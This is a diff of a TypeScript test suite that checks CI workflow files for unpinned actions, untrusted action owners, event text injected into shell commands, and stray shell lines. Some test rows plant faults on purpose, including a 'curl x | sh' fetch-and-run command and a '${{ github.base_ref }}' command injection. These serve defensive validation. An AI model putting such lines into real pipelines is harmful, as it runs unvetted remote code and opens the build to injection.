@@ -43,7 +43,7 @@ test.each<[name: string, text: string, from: string, to: string, fault: RegExp]>
   ['a publication that nobody approves', RELEASE, '    environment: publication\n', '', /without an environment/],
   ['an action of somebody', REPORT, 'actions/checkout@v5', 'essai/checkout@v5', /not one of the few/],
   ['an action of any version', REPORT, 'actions/checkout@v5', 'actions/checkout@main', /pinned to neither/],
-  ['text of an event in a command', REPORT, 'origin/main', '${{ github.head_ref }}', /becomes a command/],
+  ['text of an event in a command', REPORT, '"origin/$GITHUB_BASE_REF"', '${{ github.base_ref }}', /becomes a command/],
   ['a line of a shell', REPORT, 'run: npm ci', 'run: npm ci && curl x | sh', /not one npm command/],
   ['a script that is not there', REPORT, 'npm run report', 'npm run repport', /there is no such script/],
 ])('%s is noticed', (_, text, from, to, fault) => {
@@ -62,6 +62,20 @@ test.each([
 test('the page is posted by the workflow that follows the report, of the artefact that it leaves', () => {
   expect(workflowOf(COMMENT).on).toEqual({ workflow_run: { workflows: [workflowOf(REPORT).name], types: ['completed'] } });
   expect(REPORT).toMatch(/name: page\n\s+path: dist\/page\.md\n/);
+});
+
+test('what is proposed to a branch that releases meets the gate, from this branch', () => {
+  const branches = (text: string, event: string) => (workflowOf(text).on[event] as { branches: string[] }).branches;
+  expect(branches(REPORT, 'pull_request')).toEqual(branches(RELEASE, 'push'));
+  for (const verb of ['gate', 'report'])
+    expect(commandsOf(workflowOf(REPORT)).find((command) => scriptOf(command) === verb)).toContain(
+      '--base "origin/$GITHUB_BASE_REF"',
+    );
+});
+
+test('the tools are released before the version that names them', () => {
+  const scripts = commandsOf(workflowOf(RELEASE)).map((command) => scriptOf(command));
+  expect(scripts.filter((script) => script?.startsWith('release:'))).toEqual(['release:outils', 'release:schema']);
 });
 
 const commands = [...new Set(workflows.flatMap(([, text]) => commandsOf(workflowOf(text))))].filter((command) =>
